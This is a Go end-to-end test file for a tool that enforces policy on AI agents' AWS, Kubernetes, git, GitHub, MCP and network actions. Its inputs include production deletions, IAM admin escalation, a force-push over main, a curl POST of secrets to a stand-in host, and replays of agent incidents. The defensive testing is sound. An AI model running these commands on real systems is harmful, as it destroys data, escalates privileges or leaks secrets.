//go:build e2e

package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/countersign/countersign/internal/testinfra"
)

// These tests run the example policies of examples/policies exactly as a
// user would: `countersign run --policy examples/policies/<dir>` (the
// helper library comes from the binary), real clients, the local fakes.
// The world's own policy is never used: --policy overrides policy.paths.

const unusedPolicy = "package countersign\n\ndeny contains \"the example policy was not loaded\"\n"

// examplePolicy is the absolute path of an example policy directory.
func examplePolicy(t *testing.T, name string) string {
	t.Helper()
	p, err := filepath.Abs(filepath.Join("..", "examples", "policies", name))
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// requireTools fails the test, naming what to install, when a client is
// missing.
func requireTools(t *testing.T, tools ...string) {
	t.Helper()
	for _, tool := range tools {
		if _, err := exec.LookPath(tool); err != nil {
			t.Fatalf("%s is not installed; run `make deps` (as root it installs it)", tool)
		}
	}
}

// runPolicy runs cmd under `countersign run --policy policy`.
func (w *world) runPolicy(policy string, cmd ...string) result {
	w.t.Helper()
	return w.run(append([]string{"run", "--policy", policy, "--"}, cmd...)...)
}

// ghEnv runs gh with a fake token and no prompts, pagers or update checks.
func ghEnv(args ...string) []string {
	return append([]string{"env", "GH_TOKEN=ghp_FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE",
		"GH_NO_UPDATE_NOTIFIER=1", "GH_PROMPT_DISABLED=1", "NO_COLOR=1", "GH_PAGER=cat", "gh"}, args...)
}

// withKey runs an AWS CLI command signed with another access key.
func withKey(key string, args ...string) []string {
	return append([]string{"env", "AWS_ACCESS_KEY_ID=" + key, "aws"}, args...)
}

// hostRequests counts the requests the fake upstream received for host.
func (w *world) hostRequests(host string) int {
	n := 0
	for _, r := range w.up.Requests() {
		if r.Host == host || strings.HasPrefix(r.Host, host+":") {
			n++
		}
	}
	return n
}

// runHeld runs countersign with args until it announces an approval on
// stderr, lets settle decide that approval (by its id), and returns the
// finished run with its whole stderr. The run is bounded by two minutes.
func (w *world) runHeld(settle func(id string), args ...string) result {
	w.t.Helper()
	ctx, cancel := context.WithTimeout(w.t.Context(), 2*time.Minute)
	defer cancel()
	c := w.cmd(ctx, args...)
	var out bytes.Buffer
	c.Stdout = &out
	m, lines, stderr := startUntil(w.t, c, pendingLine)
	seen := bytes.NewBufferString(lines)
	rest := make(chan struct{})
	go func() {
		defer close(rest)
		_, _ = io.Copy(seen, stderr)
	}()
	if m != nil {
		settle(m[1])
	}
	<-rest
	code := exitCode(w.t, c, c.Wait())
	r := result{stdout: out.String(), stderr: seen.String(), code: code}
	if m == nil {
		w.t.Fatalf("countersign %v announced no approval: exit %d\nstdout %s\nstderr %s", args, r.code, r.stdout, r.stderr)
	}
	return r
}

// denyApproval denies an approval from the approvals CLI, as a human would.
func (w *world) denyApproval(id, reason string) {
	w.t.Helper()
	r := w.run("approvals", "deny", id, "--reason", reason)
	if r.code != 0 {
		w.t.Fatalf("approvals deny %s: exit %d\n%s%s", id, r.code, r.stdout, r.stderr)
	}
}

const (
	prodKey = "AKIA2PRODEXAMPLE0001" // shop-prod in aws-prod-guard/data.yaml
	devKey  = "AKIAIOSFODNN7EXAMPLE" // shop-dev
)

func TestExampleAWSProdGuard(t *testing.T) {
	requireTools(t, "aws")
	policy := examplePolicy(t, "aws-prod-guard")
	w := newWorld(t, unusedPolicy, "", awsHosts...)

	// Reads in production pass.
	r := w.runPolicy(policy, withKey(prodKey, "ec2", "describe-instances", "--output", "text")...)
	if r.code != 0 || !strings.Contains(r.stdout, "i-0abc") {
		t.Fatalf("aws ec2 describe-instances (production key): exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}

	// Deleting a production database is denied and never arrives.
	r = w.runPolicy(policy, withKey(prodKey, "dynamodb", "delete-table", "--table-name", "orders")...)
	wantDenied(t, r, "AccessDeniedException", "DeleteTable",
		"AWS-PROD-001: dynamodb:DeleteTable on orders in production (AWS account shop-prod) destroys data that cannot be brought back; an agent may not do it, ask a human")
	if n := w.reached("DeleteTable"); n != 0 {
		t.Errorf("the denied DeleteTable reached the upstream %d times", n)
	}

	// IAM escalation is denied in the development account too.
	r = w.runPolicy(policy, withKey(devKey, "iam", "attach-user-policy", "--user-name", "agent",
		"--policy-arn", "arn:aws:iam::aws:policy/AdministratorAccess")...)
	wantDenied(t, r, "AccessDenied", "AttachUserPolicy", "AWS-PROD-002: iam:AttachUserPolicy")
	if n := w.reached("AttachUserPolicy"); n != 0 {
		t.Errorf("the denied AttachUserPolicy reached the upstream %d times", n)
	}

	// Terminating in the development account passes.
	r = w.runPolicy(policy, withKey(devKey, "ec2", "terminate-instances", "--instance-ids", "i-0dev")...)
	if r.code != 0 || !strings.Contains(r.stdout, "i-0dev") {
		t.Fatalf("aws ec2 terminate-instances (development key): exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}

	// Terminating in production waits for a human; the human says no.
	r = w.runHeld(func(id string) {
		if n := w.reached("i-0prod"); n != 0 {
			t.Errorf("the held TerminateInstances reached the upstream %d times while pending", n)
		}
		w.denyApproval(id, "terminate it in the staging account first")
	}, append([]string{"run", "--policy", policy, "--"}, withKey(prodKey, "ec2", "terminate-instances", "--instance-ids", "i-0prod")...)...)
	if r.code == 0 || !strings.Contains(r.stderr, "countersign: denied by approver") || !strings.Contains(r.stderr, "terminate it in the staging account first") {
		t.Errorf("aws ec2 terminate-instances (production key) after the denial: exit %d\nstdout %s\nstderr %s", r.code, r.stdout, r.stderr)
	}
	if !strings.Contains(r.stderr, "AWS-PROD-004") && !strings.Contains(w.auditLog(), "AWS-PROD-004") {
		t.Errorf("the hold does not name AWS-PROD-004")
	}
	if n := w.reached("i-0prod"); n != 0 {
		t.Errorf("the denied TerminateInstances reached the upstream %d times", n)
	}
	if n := w.reached("i-0dev"); n != 1 {
		t.Errorf("the allowed TerminateInstances reached the upstream %d times, want 1", n)
	}
}

func TestExampleKubernetes(t *testing.T) {
	requireTools(t, "kubectl")
	policy := examplePolicy(t, "kubernetes")
	w, kc := kubeWorld(t, "")
	kubectl := func(args ...string) []string {
		return append([]string{"kubectl", "--kubeconfig", kc}, args...)
	}

	get := w.runPolicy(policy, kubectl("get", "pods", "-n", "default")...)
	if get.code != 0 || !strings.Contains(get.stdout, "web") {
		t.Fatalf("kubectl get pods: exit %d\nstdout %s\nstderr %s", get.code, get.stdout, get.stderr)
	}

	del := w.runPolicy(policy, kubectl("delete", "namespace", "prod")...)
	const want = "Error from server (Forbidden): countersign: denied by policy K8S-PROD-001: deleting namespaces/prod removes every object in it, in production (Kubernetes namespace prod); an agent may not do it, ask a human."
	if del.code == 0 || !strings.Contains(del.stderr, want) {
		t.Fatalf("kubectl delete namespace prod: exit %d, want %q\nstdout %s\nstderr %s", del.code, want, del.stdout, del.stderr)
	}

	// Scaling a production deployment to zero waits for a human.
	scale := w.runHeld(func(id string) { w.denyApproval(id, "not during business hours") },
		append([]string{"run", "--policy", policy, "--"}, kubectl("scale", "deployment", "web", "--replicas=0", "-n", "prod")...)...)
	if scale.code == 0 || !strings.Contains(scale.stderr, "countersign: denied by approver") || !strings.Contains(scale.stderr, "not during business hours") {
		t.Errorf("kubectl scale --replicas=0 after the denial: exit %d\nstdout %s\nstderr %s", scale.code, scale.stdout, scale.stderr)
	}

	// Outside production the same delete passes.
	ok := w.runPolicy(policy, kubectl("delete", "namespace", "staging")...)
	if ok.code != 0 {
		t.Errorf("kubectl delete namespace staging: exit %d\nstdout %s\nstderr %s", ok.code, ok.stdout, ok.stderr)
	}
	for _, p := range []string{"/api/v1/namespaces/prod", "/apis/apps/v1/namespaces/prod/deployments/web/scale"} {
		if n := w.up.Count("", p); n != 0 {
			t.Errorf("upstream saw %d requests for %s, want 0", n, p)
		}
	}
	if n := w.up.Count("DELETE", "/api/v1/namespaces/staging"); n != 1 {
		t.Errorf("upstream saw %d DELETEs of staging, want 1", n)
	}
}

func TestExampleGitHubGit(t *testing.T) {
	requireTools(t, "git", "gh")
	policy := examplePolicy(t, "github-git")
	w := newWorld(t, unusedPolicy, "")
	bare := filepath.Join(w.gitRoot, "repo.git")
	clone := filepath.Join(w.dir, "clone")
	if r := w.runPolicy(policy, "git", "clone", "-q", "https://git.example.test/repo.git", clone); r.code != 0 {
		t.Fatalf("git clone: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	mainBefore := gitIn(t, bare, "rev-parse", "refs/heads/main")

	gitIn(t, clone, "checkout", "-q", "-b", "feature")
	gitIn(t, clone, "commit", "-q", "--allow-empty", "-m", "agent feature")
	if r := w.runPolicy(policy, "git", "-C", clone, "push", "-q", "origin", "feature"); r.code != 0 {
		t.Fatalf("git push origin feature: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if got, want := gitIn(t, bare, "rev-parse", "refs/heads/feature"), gitIn(t, clone, "rev-parse", "HEAD"); got != want {
		t.Errorf("upstream feature is %s, want %s", got, want)
	}
	pushes := w.up.Count("POST", receivePackPath)

	gitIn(t, clone, "checkout", "-q", "main")
	gitIn(t, clone, "commit", "-q", "--allow-empty", "-m", "agent change on main")
	tests := []struct {
		name string
		args []string
		want string
	}{
		{"push to main", []string{"push", "origin", "main"},
			" ! [remote rejected] main -> main (countersign: denied by policy GIT-001: pushing to main of repo is not allowed; push another branch and open a pull request."},
		{"force push over main", []string{"push", "--force", "origin", "feature:main"},
			" ! [remote rejected] feature -> main (countersign: denied by policy GIT-001: pushing to main of repo is not allowed"},
		{"delete a branch", []string{"push", "origin", ":feature"},
			" ! [remote rejected] feature (countersign: denied by policy GIT-002: deleting the branch feature of repo is not allowed; only agent/* may be deleted by an agent."},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := w.runPolicy(policy, append([]string{"git", "-C", clone}, tt.args...)...)
			if r.code == 0 || !strings.Contains(r.stderr, tt.want) {
				t.Errorf("git %s: exit %d, want %q in\n%s", strings.Join(tt.args, " "), r.code, tt.want, r.stderr)
			}
		})
	}
	if n := w.up.Count("POST", receivePackPath); n != pushes {
		t.Errorf("upstream saw %d more receive-pack POSTs, want 0", n-pushes)
	}
	if got := gitIn(t, bare, "rev-parse", "refs/heads/main"); got != mainBefore {
		t.Errorf("upstream main moved from %s to %s", mainBefore, got)
	}
	if out := gitIn(t, bare, "for-each-ref", "--format=%(refname)", "refs/heads/feature"); out == "" {
		t.Errorf("the feature branch was deleted upstream")
	}

	r := w.runPolicy(policy, ghEnv("api", "repos/acme/shop")...)
	if r.code != 0 || !strings.Contains(r.stdout, `"full_name":"acme/shop"`) {
		t.Fatalf("gh api repos/acme/shop: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	r = w.runPolicy(policy, ghEnv("api", "-X", "DELETE", "repos/acme/shop")...)
	if want := "gh: countersign: denied by policy GH-002: repos/delete of acme/shop is not allowed: the repository would leave your control; ask a human."; r.code == 0 || !strings.Contains(r.stderr, want) {
		t.Errorf("gh api -X DELETE repos/acme/shop: exit %d, want %q\n%s%s", r.code, want, r.stdout, r.stderr)
	}
	r = w.runPolicy(policy, ghEnv("repo", "edit", "acme/shop", "--visibility", "public")...)
	if want := "countersign: denied by policy GH-003: making acme/shop public is not allowed; ask a human"; r.code == 0 || !strings.Contains(r.stderr, want) {
		t.Errorf("gh repo edit --visibility public: exit %d, want %q\n%s%s", r.code, want, r.stdout, r.stderr)
	}
	for _, m := range []string{"DELETE", "PATCH"} {
		if n := w.up.Count(m, "/repos/acme/shop"); n != 0 {
			t.Errorf("upstream saw %d %ss of the repository, want 0", n, m)
		}
	}
}

func TestExampleMCP(t *testing.T) {
	client := buildMCPClient(t)
	policy := examplePolicy(t, "mcp")
	w := newWorld(t, unusedPolicy, "", "mcp.example.test", "untrusted-mcp.example.test")

	ok := w.runPolicy(policy, client, "https://mcp.example.test/mcp", "list_tables")
	if ok.code != 0 || !strings.Contains(ok.stdout, "result: users, orders, integration_tokens") {
		t.Fatalf("list_tables: exit %d\nstdout %s\nstderr %s", ok.code, ok.stdout, ok.stderr)
	}

	// drop_table waits for a human, who refuses.
	held := w.runHeld(func(id string) {
		if n := testinfra.MCPToolCalls(w.up.Requests(), "drop_table"); n != 0 {
			t.Errorf("the held drop_table reached the server %d times while pending", n)
		}
		w.denyApproval(id, "use a migration")
	}, "run", "--policy", policy, "--", client, "https://mcp.example.test/mcp", "drop_table", `{"table":"users"}`)
	if held.code == 0 || !strings.Contains(held.stdout, "countersign: denied by approver") || !strings.Contains(held.stdout, "use a migration") {
		t.Errorf("drop_table after the denial: exit %d\nstdout %s\nstderr %s", held.code, held.stdout, held.stderr)
	}
	if !strings.Contains(held.stderr, "MCP-002") && !strings.Contains(w.auditLog(), "MCP-002") {
		t.Errorf("the hold does not name MCP-002")
	}
	if n := testinfra.MCPToolCalls(w.up.Requests(), "drop_table"); n != 0 {
		t.Errorf("the denied drop_table reached the server %d times", n)
	}

	// A denied server is refused from the first request on.
	bad := w.runPolicy(policy, client, "https://untrusted-mcp.example.test/mcp", "list_tables")
	if want := "countersign: denied by policy MCP-001: the MCP server untrusted-mcp.example.test/mcp is not allowed for agents"; bad.code == 0 || !strings.Contains(bad.stdout+bad.stderr, want) {
		t.Errorf("list_tables on the denied server: exit %d, want %q\nstdout %s\nstderr %s", bad.code, want, bad.stdout, bad.stderr)
	}
	if n := w.hostRequests("untrusted-mcp.example.test"); n != 0 {
		t.Errorf("the denied server received %d requests", n)
	}
}

func TestExampleEgressAllowlist(t *testing.T) {
	requireTools(t, "curl")
	policy := examplePolicy(t, "egress-allowlist")
	w := newWorld(t, unusedPolicy, "", "registry.npmjs.org", "api.anthropic.com", "ci.acme.example")

	for _, url := range []string{"https://registry.npmjs.org/left-pad", "https://api.anthropic.com/v1/models", "https://ci.acme.example/status"} {
		r := w.runPolicy(policy, "curl", "-sS", "--fail", url)
		if r.code != 0 || !strings.Contains(r.stdout, `"ok":true`) {
			t.Errorf("curl %s: exit %d\nstdout %s\nstderr %s", url, r.code, r.stdout, r.stderr)
		}
	}
	r := w.runPolicy(policy, "curl", "-sS", "-X", "POST", "--data", "secrets", "https://example.test/upload")
	if want := "countersign: denied by policy EGRESS-001: example.test is not on the egress allowlist"; !strings.Contains(r.stdout, want) {
		t.Errorf("curl https://example.test/upload: exit %d, want %q\nstdout %s\nstderr %s", r.code, want, r.stdout, r.stderr)
	}
	if n := w.hostRequests("example.test"); n != 0 {
		t.Errorf("example.test received %d requests, want 0", n)
	}
	for _, h := range []string{"registry.npmjs.org", "api.anthropic.com", "ci.acme.example"} {
		if n := w.hostRequests(h); n != 1 {
			t.Errorf("%s received %d requests, want 1", h, n)
		}
	}
}

// TestExampleIncidentReplays replays requests of shared/INCIDENTS.md with
// the clients the agents used, under the incidents policy: each is stopped
// and none reaches the fake upstream.
func TestExampleIncidentReplays(t *testing.T) {
	requireTools(t, "aws", "curl", "git", "gh", "kubectl")
	policy := examplePolicy(t, "incidents")

	t.Run("04 wiper prompt: aws iam delete-user", func(t *testing.T) {
		w := newWorld(t, unusedPolicy, "", awsHosts...)
		r := w.runPolicy(policy, "aws", "iam", "delete-user", "--user-name", "alice")
		wantDenied(t, r, "AccessDenied", "DeleteUser", "INC-04-1: iam:DeleteUser on alice is not allowed")
		if n := w.up.Count("", ""); n != 0 {
			t.Errorf("the upstream saw %d requests, want 0", n)
		}
	})

	t.Run("09 terraform destroy: rds delete-db-instance without backups", func(t *testing.T) {
		w := newWorld(t, unusedPolicy, "", append(awsHosts, "rds.us-east-1.amazonaws.com")...)
		r := w.runPolicy(policy, withKey(prodKey, "rds", "delete-db-instance", "--db-instance-identifier", "prod-db", "--skip-final-snapshot")...)
		wantDenied(t, r, "AccessDenied", "DeleteDBInstance", "INC-09-1: rds:DeleteDBInstance on prod-db would drop the database with its backups")
		if n := w.up.Count("", ""); n != 0 {
			t.Errorf("the upstream saw %d requests, want 0", n)
		}
	})

	t.Run("10 Railway volumeDelete through GraphQL", func(t *testing.T) {
		w := newWorld(t, unusedPolicy, "", "backboard.railway.com")
		r := w.runPolicy(policy, "curl", "-sS", "-X", "POST", railwayURL,
			"-H", "Authorization: Bearer 00000000-fake-fake-fake-000000000000",
			"-d", `{"query":"mutation { volumeDelete(volumeId: \"3d2c42fb-0000-4c1e-9a7e-000000000000\") }"}`)
		var resp struct {
			Errors []struct{ Message string } `json:"errors"`
		}
		const want = "countersign: denied by policy INC-10: volumeDelete deletes data and its backups with no undo"
		if err := json.Unmarshal([]byte(r.stdout), &resp); err != nil || len(resp.Errors) != 1 || !strings.HasPrefix(resp.Errors[0].Message, want) {
			t.Errorf("curl volumeDelete: %v, want a GraphQL error starting %q\nstdout %s\nstderr %s", err, want, r.stdout, r.stderr)
		}
		if n := w.up.Count("", ""); n != 0 {
			t.Errorf("the upstream saw %d requests, want 0", n)
		}
	})

	t.Run("05 s1ngularity: gh repo edit --visibility public", func(t *testing.T) {
		w := newWorld(t, unusedPolicy, "")
		r := w.runPolicy(policy, ghEnv("repo", "edit", "acme/shop", "--visibility", "public")...)
		if want := "countersign: denied by policy INC-05-1: making acme/shop public is not allowed"; r.code == 0 || !strings.Contains(r.stderr, want) {
			t.Errorf("gh repo edit --visibility public: exit %d, want %q\n%s%s", r.code, want, r.stdout, r.stderr)
		}
		if n := w.up.Count("PATCH", ""); n != 0 {
			t.Errorf("the upstream saw %d PATCHes, want 0", n)
		}
	})

	t.Run("06 git push --force over main", func(t *testing.T) {
		w := newWorld(t, unusedPolicy, "")
		bare := filepath.Join(w.gitRoot, "repo.git")
		clone := filepath.Join(w.dir, "clone")
		if r := w.runPolicy(policy, "git", "clone", "-q", "https://git.example.test/repo.git", clone); r.code != 0 {
			t.Fatalf("git clone: exit %d\n%s%s", r.code, r.stdout, r.stderr)
		}
		before := gitIn(t, bare, "rev-parse", "refs/heads/main")
		// A fresh history over main, as in claude-code#8482.
		gitIn(t, clone, "checkout", "-q", "--orphan", "fresh")
		gitIn(t, clone, "commit", "-q", "--allow-empty", "-m", "fresh start")
		r := w.runPolicy(policy, "git", "-C", clone, "push", "--force", "origin", "fresh:main")
		const want = " ! [remote rejected] fresh -> main (countersign: denied by policy INC-06-1: update of the protected branch main of repo is not allowed"
		if r.code == 0 || !strings.Contains(r.stderr, want) {
			t.Errorf("git push --force: exit %d, want %q in\n%s", r.code, want, r.stderr)
		}
		if n := w.up.Count("POST", receivePackPath); n != 0 {
			t.Errorf("the upstream saw %d receive-pack POSTs, want 0", n)
		}
		if got := gitIn(t, bare, "rev-parse", "refs/heads/main"); got != before {
			t.Errorf("upstream main moved from %s to %s", before, got)
		}
	})

	t.Run("11 kubectl delete namespace drone", func(t *testing.T) {
		w, kc := kubeWorld(t, "")
		r := w.runPolicy(policy, "kubectl", "--kubeconfig", kc, "delete", "namespace", "drone")
		const want = "Error from server (Forbidden): countersign: denied by policy INC-11-1: deleting the namespace drone in production (Kubernetes namespace drone) deletes everything in it"
		if r.code == 0 || !strings.Contains(r.stderr, want) {
			t.Errorf("kubectl delete namespace drone: exit %d, want %q\n%s%s", r.code, want, r.stdout, r.stderr)
		}
		if n := w.up.Count("DELETE", ""); n != 0 {
			t.Errorf("the upstream saw %d DELETEs, want 0", n)
		}
	})

	t.Run("02 Supabase MCP: execute_sql reading integration_tokens", func(t *testing.T) {
		client := buildMCPClient(t)
		w := newWorld(t, unusedPolicy, "", "mcp.example.test")
		r := w.runPolicy(policy, client, "https://mcp.example.test/mcp", "execute_sql", `{"query":"SELECT * FROM integration_tokens"}`)
		if want := "countersign: denied by policy INC-02-1: SQL naming the secret table integration_tokens is not allowed"; r.code == 0 || !strings.Contains(r.stdout, want) {
			t.Errorf("execute_sql: exit %d, want %q\nstdout %s\nstderr %s", r.code, want, r.stdout, r.stderr)
		}
		if n := testinfra.MCPToolCalls(w.up.Requests(), "execute_sql"); n != 0 {
			t.Errorf("the server saw %d execute_sql calls, want 0", n)
		}
	})
}
